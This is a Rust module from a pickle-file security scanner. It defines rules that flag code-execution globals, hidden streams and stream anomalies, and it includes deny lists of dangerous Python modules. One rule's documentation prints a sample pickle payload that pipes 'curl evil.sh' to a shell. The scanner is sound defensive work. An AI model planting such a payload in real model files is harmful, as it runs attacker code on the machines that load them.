//! SEC: what the loader would import, call or read that is not a model.
//!
//! Names are normalised the way CPython's unpickler does for protocol 0-2 files
//! (`__builtin__` is `builtins`, `copy_reg` is `copyreg`), and `posix`/`nt` are `os`.
//! STACK_GLOBAL names were already resolved through the memo by the machine, so memo
//! tricks do not hide a global from these rules.

use super::{Finding, Options, Rule, Severity};
use crate::inspection::Inspection;
use crate::model::GlobalRef;
use crate::pickle::graph::AnomalyKind;
use crate::report::describe_anomaly;

pub const SEC001: Rule = Rule {
    code: "SEC001",
    name: "code-execution-call",
    severity: Severity::Error,
    summary: "a code-execution global is called while loading",
    doc: "## What it finds
A REDUCE, NEWOBJ, INST or OBJ that calls a global able to run code, start processes, open
files or sockets, or import anything: `os`/`posix`/`nt`, `subprocess`, `pty`, `socket`,
`runpy`, `importlib`, `pkgutil.resolve_name`, `builtins.eval`/`exec`/`compile`/`getattr`/
`__import__`/`open`, `marshal`, `ctypes`, `pickle.loads`, `operator.attrgetter`,
`numpy.load`, `torch.load`, `joblib.load`, ...

## Why it hurts
Unpickling calls it. The file runs the attacker's code on whatever machine loads the model:
the training cluster, the CI runner, the serving pod.

## Example
`cposix\\nsystem\\n(S'curl evil.sh | sh'\\ntR.` calls `posix.system` at offset 0.

## Fix
Do not load the file. Rebuild the model from code you trust; report where it came from.",
    autofix: None,
};

pub const SEC002: Rule = Rule {
    code: "SEC002",
    name: "code-execution-reference",
    severity: Severity::Error,
    summary: "a code-execution global is referenced (not called while loading)",
    doc: "## What it finds
A dangerous global (see SEC001) that the file imports without calling it during the load,
for example stored as a parameter: `FunctionTransformer(func=os.system)`.

## Why it hurts
The model calls it later, at transform or predict time, with data the attacker may shape.

## Example
`FunctionTransformer(func=posix.system)` references `posix.system`.

## Fix
Do not load the file; rebuild the model from trusted code.",
    autofix: None,
};

pub const SEC003: Rule = Rule {
    code: "SEC003",
    name: "unknown-global",
    severity: Severity::Info,
    summary: "a global outside the known-safe ML set (error under --strict)",
    doc: "## What it finds
A global outside scikit-learn, numpy, scipy, pandas, xgboost, lightgbm, catboost,
imbalanced-learn, joblib's array wrappers, `collections`, `copyreg._reconstructor`,
`_codecs.encode` and the builtin containers, and not allowed in the configuration
(`allowed-globals`).

## Why it hurts
It is code the loader imports that nobody reviewed. Usually harmless (your own transformer
class), but the allowlist is what lets a registry accept only what it knows.

## Example
`mycompany.features.Cleaner` in a pipeline.

## Fix
Add it to `allowed-globals` in `artifact.toml` once reviewed.",
    autofix: None,
};

pub const SEC004: Rule = Rule {
    code: "SEC004",
    name: "hidden-content",
    severity: Severity::Error,
    summary: "content other tools skip: a second stream, trailing bytes, padding, nested pickles",
    doc: "## What it finds
Bytes that `pickle.load` does not read but other loaders or code may: a second pickle stream
after the first STOP, bytes after the last stream, joblib array padding that is longer than
alignment or not 0xFF filler, and complete pickle streams inside bytes values.

## Why it hurts
This is where payloads hide from scanners that stop at the first STOP or skip bytes; joblib's
object arrays and legacy PyTorch files do read several streams.

## Example
A fitted model followed by `cos\\nsystem\\n...` after its STOP.

## Fix
Do not load the file; rebuild it from trusted code.",
    autofix: None,
};

pub const SEC005: Rule = Rule {
    code: "SEC005",
    name: "stream-anomaly",
    severity: Severity::Warning,
    summary: "stream anomalies: leftover stack, memo overwritten, persistent ids, misplaced PROTO",
    doc: "## What it finds
Things CPython's pickler never writes: items left on the stack at STOP, a memo slot written
twice, PROTO in the middle of a stream, opcodes newer than the stream's protocol, persistent
ids, extension codes and out-of-band buffers.

## Why it hurts
They are the tools of parser-confusion attacks (a memo slot rewritten between two reads) and
of files that load differently in different loaders.

## Example
`LONG_BINPUT 3` over a slot that already holds a string.

## Fix
Regenerate the file with a standard pickler; investigate where it came from.",
    autofix: None,
};

pub const RULES: &[&Rule] = &[&SEC001, &SEC002, &SEC003, &SEC004, &SEC005];

/// Modules every member of which can run code, touch the system or import more.
const DANGEROUS_MODULES: &[&str] = &[
    "os",
    "posix",
    "nt",
    "subprocess",
    "_posixsubprocess",
    "pty",
    "socket",
    "runpy",
    "importlib",
    "pkgutil",
    "ctypes",
    "marshal",
    "code",
    "codeop",
    "webbrowser",
    "shutil",
    "sys",
    "pickle",
    "_pickle",
    "dill",
    "shelve",
    "multiprocessing",
    "asyncio",
    "http",
    "urllib",
    "urllib2",
    "requests",
    "ftplib",
    "telnetlib",
    "smtplib",
    "timeit",
    "pdb",
    "bdb",
    "cProfile",
    "profile",
    "trace",
    "doctest",
    "venv",
    "ensurepip",
    "pip",
    "setuptools",
    "distutils",
    "imp",
    "zipimport",
    "signal",
    "_thread",
    "threading",
    "platform",
];

/// Single names that can run code, in otherwise harmless modules.
const DANGEROUS_NAMES: &[(&str, &str)] = &[
    ("builtins", "eval"),
    ("builtins", "exec"),
    ("builtins", "execfile"),
    ("builtins", "compile"),
    ("builtins", "__import__"),
    ("builtins", "getattr"),
    ("builtins", "setattr"),
    ("builtins", "delattr"),
    ("builtins", "open"),
    ("builtins", "file"),
    ("builtins", "input"),
    ("builtins", "breakpoint"),
    ("builtins", "globals"),
    ("builtins", "locals"),
    ("builtins", "vars"),
    ("builtins", "reload"),
    ("operator", "attrgetter"),
    ("operator", "methodcaller"),
    ("numpy", "load"),
    ("numpy.lib.npyio", "load"),
    ("numpy", "fromfile"),
    ("pandas", "read_pickle"),
    ("pandas", "eval"),
    ("pandas.io.pickle", "read_pickle"),
    ("pandas.core.computation.eval", "eval"),
    ("torch", "load"),
    ("joblib", "load"),
    ("joblib.numpy_pickle", "load"),
    ("cloudpickle", "load"),
    ("cloudpickle", "loads"),
    ("types", "CodeType"),
];

/// Module prefixes of the known-safe ML set.
const SAFE_MODULES: &[&str] = &[
    "sklearn",
    "numpy",
    "scipy",
    "pandas",
    "xgboost",
    "lightgbm",
    "catboost",
    "imblearn",
    "collections",
    "datetime",
    "decimal",
    "fractions",
    "uuid",
    "re",
    "enum",
];

const SAFE_NAMES: &[(&str, &str)] = &[
    ("copyreg", "_reconstructor"),
    ("_codecs", "encode"),
    ("joblib.numpy_pickle", "NumpyArrayWrapper"),
    ("joblib.numpy_pickle", "NDArrayWrapper"),
    ("joblib.numpy_pickle", "ZNDArrayWrapper"),
    ("builtins", "list"),
    ("builtins", "dict"),
    ("builtins", "set"),
    ("builtins", "frozenset"),
    ("builtins", "tuple"),
    ("builtins", "bytearray"),
    ("builtins", "bytes"),
    ("builtins", "slice"),
    ("builtins", "range"),
    ("builtins", "complex"),
    ("builtins", "object"),
    ("builtins", "int"),
    ("builtins", "float"),
    ("builtins", "str"),
    ("builtins", "bool"),
];

/// The module name CPython's unpickler actually imports (`fix_imports`, `_compat_pickle`).
pub fn normalise_module(module: &str) -> &str {
    match module {
        "__builtin__" | "exceptions" => "builtins",
        "copy_reg" => "copyreg",
        "cPickle" => "pickle",
        "commands" => "subprocess",
        "posix" | "nt" => "os",
        other => other,
    }
}

fn under(module: &str, prefix: &str) -> bool {
    module == prefix
        || module
            .strip_prefix(prefix)
            .is_some_and(|r| r.starts_with('.'))
}

/// Whether a global can run code or touch the system.
pub fn is_dangerous(module: &str, name: &str) -> bool {
    let module = normalise_module(module);
    DANGEROUS_MODULES.iter().any(|m| under(module, m))
        || DANGEROUS_NAMES
            .iter()
            .any(|(m, n)| *m == module && *n == name)
}

/// Whether a global is in the known-safe ML set (or allowed by the configuration).
pub fn is_safe(module: &str, name: &str, allowed: &[String]) -> bool {
    let module = normalise_module(module);
    if is_dangerous(module, name) {
        return false;
    }
    SAFE_MODULES.iter().any(|m| under(module, m))
        || SAFE_NAMES.iter().any(|(m, n)| *m == module && *n == name)
        || allowed.iter().any(|pattern| {
            let full = format!("{module}.{name}");
            match pattern.strip_suffix(".*") {
                Some(prefix) => under(module, prefix),
                None => *pattern == full,
            }
        })
}

/// Findings for a list of globals; `inside` is the offset of the embedded pickle they
/// belong to (their own offsets are relative to it), if any.
fn check_globals(
    globals: &[GlobalRef],
    inside: Option<u64>,
    options: &Options,
    findings: &mut Vec<Finding>,
) {
    let place = |offset: u64| inside.map_or(offset, |base| base + offset);
    let within = inside
        .map(|base| format!(", inside the pickle embedded at offset {base}"))
        .unwrap_or_default();
    for g in globals {
        if is_dangerous(&g.module, &g.name) {
            let (rule, verb) = match (g.called, inside) {
                (true, None) => (&SEC001, "called while loading"),
                (true, Some(_)) => (&SEC001, "called when that pickle is loaded"),
                (false, _) => (&SEC002, "referenced"),
            };
            findings.push(
                Finding::new(
                    rule,
                    format!(
                        "{} is {verb} ({} reference{}){within}",
                        spelled(g),
                        g.count,
                        if g.count == 1 { "" } else { "s" }
                    ),
                )
                .at(place(g.first_offset)),
            );
        } else if !is_safe(&g.module, &g.name, &options.allowed_globals) {
            let mut finding = Finding::new(
                &SEC003,
                format!("{} is outside the known-safe ML set{within}", spelled(g)),
            )
            .at(place(g.first_offset));
            if options.strict {
                finding.severity = Severity::Error;
            }
            findings.push(finding);
        }
    }
}

fn spelled(g: &GlobalRef) -> String {
    let normal = normalise_module(&g.module);
    if normal == g.module {
        format!("{}.{}", g.module, g.name)
    } else {
        format!("{}.{} (= {normal}.{})", g.module, g.name, g.name)
    }
}

pub fn check(inspection: &Inspection, options: &Options, findings: &mut Vec<Finding>) {
    let view = &inspection.view;
    check_globals(&view.globals, None, options, findings);
    for e in &inspection.embedded_pickles {
        check_globals(&e.globals, Some(e.span.offset), options, findings);
    }
    let top: Vec<_> = inspection.streams.iter().filter(|s| !s.nested).collect();
    for s in top.iter().skip(1) {
        findings.push(
            Finding::new(
                &SEC004,
                format!(
                    "a second pickle stream ({} opcodes) after the first STOP: pickle.load ignores it, other loaders run it",
                    s.ops
                ),
            )
            .at(s.offset),
        );
    }
    if let Some(t) = inspection.trailing {
        findings.push(
            Finding::new(
                &SEC004,
                format!("{} bytes after the last pickle stream", t.len),
            )
            .at(t.offset),
        );
    }
    for e in &inspection.embedded_pickles {
        findings.push(
            Finding::new(
                &SEC004,
                format!(
                    "a complete pickle stream ({} bytes) inside a bytes value",
                    e.span.len
                ),
            )
            .at(e.span.offset),
        );
    }
    for a in &inspection.anomalies {
        let (kind, detail) = describe_anomaly(&a.kind);
        let rule = match a.kind {
            AnomalyKind::UnusualJoblibPadding { .. } => &SEC004,
            _ => &SEC005,
        };
        let opcode = a.opcode.map(|o| format!(" ({o})")).unwrap_or_default();
        findings.push(Finding::new(rule, format!("{detail}{opcode} [{kind}]")).at(a.offset));
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn aliases_and_chains_are_dangerous() {
        assert!(is_dangerous("posix", "system"));
        assert!(is_dangerous("nt", "system"));
        assert!(is_dangerous("__builtin__", "eval"));
        assert!(is_dangerous("builtins", "getattr"));
        assert!(is_dangerous("importlib.machinery", "SourceFileLoader"));
        assert!(is_dangerous("pkgutil", "resolve_name"));
        assert!(is_dangerous("commands", "getoutput"));
        assert!(!is_dangerous("osmium", "x"));
        assert!(!is_dangerous("numpy", "dtype"));
    }

    #[test]
    fn the_ml_set_is_safe_and_extensible() {
        assert!(is_safe("sklearn.pipeline", "Pipeline", &[]));
        assert!(is_safe("numpy._core.multiarray", "_reconstruct", &[]));
        assert!(is_safe("copy_reg", "_reconstructor", &[]));
        assert!(is_safe("__builtin__", "object", &[]));
        assert!(!is_safe("numpy", "load", &[]));
        assert!(!is_safe("builtins", "getattr", &[]));
        assert!(!is_safe("mycompany.features", "Cleaner", &[]));
        assert!(is_safe(
            "mycompany.features",
            "Cleaner",
            &["mycompany.*".into()]
        ));
        assert!(is_safe(
            "mycompany.features",
            "Cleaner",
            &["mycompany.features.Cleaner".into()]
        ));
        assert!(
            !is_safe("os", "system", &["os.*".into()]),
            "the allowlist cannot allow code execution"
        );
    }
}
